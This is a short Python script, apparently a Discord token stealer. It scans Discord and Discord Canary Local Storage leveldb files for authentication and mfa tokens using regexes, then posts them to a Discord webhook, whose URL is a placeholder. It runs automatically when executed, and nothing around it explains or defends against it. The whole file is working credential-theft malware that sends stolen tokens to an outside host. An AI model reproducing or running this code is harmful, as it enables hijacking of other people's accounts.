import os, re, json
from urllib.request import Request, urlopen

HOOK = 'https://discord.com/api/webhooks/0/inert'

def find_tokens(path):
    path += '\\Local Storage\\leveldb'
    tokens = []
    for file_name in os.listdir(path):
        if not file_name.endswith('.log') and not file_name.endswith('.ldb'):
            continue
        for line in [x.strip() for x in open(f'{path}\\{file_name}', errors='ignore').readlines() if x.strip()]:
            for regex in (r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', r'mfa\.[\w-]{84}'):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens

def main():
    roaming = os.getenv('APPDATA')
    paths = {'Discord': roaming + '\\Discord', 'Discord Canary': roaming + '\\discordcanary'}
    message = ''
    for platform, path in paths.items():
        if not os.path.exists(path):
            continue
        message += f'**{platform}**\n'
        for token in find_tokens(path):
            message += f'{token}\n'
    payload = json.dumps({'content': message})
    req = Request(HOOK, data=payload.encode(), headers={'Content-Type': 'application/json'})
    urlopen(req)

main()
